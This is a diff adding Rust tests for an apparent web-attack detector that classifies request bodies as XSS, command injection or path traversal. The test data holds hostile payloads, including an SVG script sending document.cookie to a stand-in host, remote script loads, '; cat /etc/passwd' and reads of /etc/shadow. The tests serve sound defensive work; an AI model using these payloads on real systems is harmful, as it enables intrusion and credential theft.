@@ -116,3 +116,80 @@ fn keys_of_lists_excuse_nothing() {
     assert_eq!(class("post[code]=cat+/etc/passwd;ls"), "");
     assert_eq!(class("search[filter]=1+OR+1=1"), "");
 }
+
+/// Browsers run the scripts of XHTML and SVG in any document of XML.
+#[test]
+fn scripts_of_pages_in_xml_run() {
+    let detectors = Detectors::new();
+    let xhtml = "http://www.w3.org/1999/xhtml";
+    for body in [
+        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//a.example/'+document.cookie)</script></svg>",
+        "<svg xmlns='http://www.w3.org/2000/svg'><g/><script href='//a.example/x.js'/></svg>",
+        &format!("<x xmlns=\"{xhtml}\"><b>a</b><script>alert(1)</script></x>"),
+        &format!("<a:script xmlns:a=\"{xhtml}\">alert(1)</a:script>"),
+        &format!("<a:script src=\"https://a.example/x.js\" xmlns:a=\"{xhtml}\"></a:script>"),
+        &format!(
+            "<feed><content type=\"xhtml\"><div xmlns=\"{xhtml}\"><script>alert(1)</script></div></content></feed>"
+        ),
+    ] {
+        for content_type in ["application/xml", "image/svg+xml", "application/atom+xml", "text/xml"] {
+            assert_eq!(class(&detectors, content_type, body.as_bytes()), "xss", "{content_type} {body}");
+        }
+    }
+    for body in [
+        "<project><script>alert(1)</script></project>",
+        "<workflow><script language='groovy'>println 'done'</script></workflow>",
+        &format!("<div xmlns=\"{xhtml}\"><p>a</p><script/></div>"),
+        "<rss><item><description>&lt;b&gt;a&lt;/b&gt;</description></item></rss>",
+    ] {
+        assert_eq!(class(&detectors, "application/xml", body.as_bytes()), "", "{body}");
+    }
+}
+
+/// What a page sends that polls for the frames of a socket is read as the JSON that it is.
+#[test]
+fn frames_of_sockets_are_json() {
+    let detectors = Detectors::new();
+    let frames = |text: &str| {
+        [
+            format!("42[\"msg\",{{\"text\":\"{text}\"}}]"),
+            format!("42[\"msg\",{{\"text\":\"{text}\"}}]\u{1e}3\u{1e}42[\"x\"]"),
+            format!("{{\"type\":1,\"target\":\"send\",\"arguments\":[\"{text}\"]}}\u{1e}"),
+        ]
+    };
+    for body in frames("1) milk -- \\\"that cheese\\\" -- and beer!") {
+        assert_eq!(class(&detectors, "text/plain;charset=UTF-8", body.as_bytes()), "", "{body}");
+    }
+    for (attack, class_of) in ATTACKS {
+        for body in frames(attack) {
+            assert_eq!(class(&detectors, "text/plain;charset=UTF-8", body.as_bytes()), class_of, "{body}");
+            // Something else stands behind them.
+            let body = format!("42[\"a\"]{body}");
+            assert_eq!(class(&detectors, "text/plain", body.as_bytes()), class_of, "{body}");
+        }
+    }
+    assert_eq!(class(&detectors, "text/plain", b"42[\"a\"]; cat /etc/passwd"), "command");
+}
+
+/// Reports of errors name files of programs and quote their lines.
+#[test]
+fn stack_traces_pass() {
+    let detectors = Detectors::new();
+    let class = |body: &str| class(&detectors, "application/json", body.as_bytes());
+    for body in [
+        r#"{"exception":{"values":[{"stacktrace":{"frames":[{"abs_path":"/usr/local/lib/python3.11/site-packages/flask/app.py","context_line":"    os.system('ls -la /tmp')"}]}}]}}"#,
+        r#"{"library":"/usr/lib/x86_64-linux-gnu/libc.so.6"}"#,
+        r#"{"process":{"title":"/usr/lib/jvm/java-10-openjdk-amd64/bin/java"}}"#,
+        r#"{"streams":[{"stream":{"filename":"/var/log/nginx/access.log"},"values":[["1","a"]]}]}"#,
+    ] {
+        assert_eq!(class(body), "", "{body}");
+    }
+    for body in [
+        r#"{"frames":[{"abs_path":"/etc/shadow"}]}"#,
+        r#"{"library":"../../../../usr/lib/x86_64-linux-gnu/libc.so.6"}"#,
+        r#"{"file":"/usr/local/lib/php/pearcmd.php"}"#,
+        r#"{"streams":[{"stream":{"filename":"/etc/passwd"}}]}"#,
+    ] {
+        assert_eq!(class(body), "path", "{body}");
+    }
+}
